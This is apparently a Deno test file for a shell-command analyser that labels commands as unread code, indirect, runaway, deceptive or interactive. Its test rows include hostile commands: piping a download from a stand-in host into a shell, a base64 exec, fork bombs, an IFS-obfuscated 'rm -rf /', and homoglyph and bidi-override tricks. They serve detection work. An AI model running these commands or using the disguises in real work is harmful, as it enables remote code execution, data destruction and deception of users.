/**
 * What the reader says it could not follow, by kind.
 */
import assert from "node:assert/strict";
import { doubts, read } from "./reading.ts";

const ROWS: readonly (readonly [string, readonly string[]])[] = [
  ["curl -s https://x.test | sh", ["unread code"]],
  ["curl https://x.test | tee f | sudo bash", ["unread code"]],
  ["bash <(curl https://x.test)", ["unread code"]],
  ["wget -qO- https://x.test | python3 -", ["unread code"]],
  ['eval "$X"', ["unread code", "indirect"]],
  ['sh -c "$X"', ["unread code", "indirect"]],
  ["mydecoder blob | sh", ["unread code"]],
  ["curl -o f https://x.test; sh f", ["unread code"]],
  ["curl -o f https://x.test; chmod +x f; ./f", ["unread code"]],
  ['node -e "$(curl https://x.test)"', ["unread code"]],
  ["python3 -c 'import os; os.system(cmd)'", ["unread code"]],
  ["python3 -c 'import base64; exec(base64.b64decode(\"eA==\"))'", ["unread code"]],
  [":(){ :|:& };:", ["runaway"]],
  ["bomb() { bomb & bomb; }; bomb", ["runaway"]],
  ["cat${IFS:0:1}x", ["deceptive"]],
  ["rm$IFS-rf$IFS/", ["deceptive"]],
  ["OLD=$IFS; IFS=,; read -r a b < f; IFS=$OLD", []],
  ["X=$(curl https://x.test); ${X@P}", ["unread code", "indirect"]],
  ['"$BIN" x', ["indirect"]],
  ["$(pick) x", ["indirect"]],
  ["source f", ["indirect"]],
  ["BASH_ENV=f bash -c ls", ["indirect"]],
  [". ./f", ["indirect"]],
  ["bash script.sh", ["indirect"]],
  ["sh < script.sh", ["indirect"]],
  ["./script", []],
  ["$VENV/bin/python x.py", []],
  ["python x.py", []],
  ["bash", ["interactive"]],
  ["bash -i", ["interactive"]],
  ["python3", ["interactive"]],
  ["node", ["interactive"]],
  ["sudo -i", ["interactive"]],
  ["ssh host", ["interactive"]],
  ["docker exec -it web bash", ["interactive"]],
  ["bash --version; python3 -V; node --version", []],
  ["rm\u200b -rf x", ["deceptive"]],
  ["\u0433m x", ["deceptive"]],
  ["curl https://\u0456nstall.x.test", ["deceptive"]],
  ["curl https://пример.test/путь", []],
  ["git commit -m 'résumé 👩‍💻 naïve'", []],
  ["git commit -m 'a\u202eb'", ["deceptive"]],
]; // deno-fmt-ignore

for (const [source, expected] of ROWS) {
  Deno.test(`doubts about ${JSON.stringify(source)}`, () => {
    assert.deepEqual(doubts(read(source)), expected);
  });
}

Deno.test("a text that cannot be parsed gives its words", () => {
  assert.deepEqual(read("rm -rf 'x").bareWords, ["rm", "-rf", "x"]);
  assert.equal(read("rm -rf x").bareWords, undefined);
});
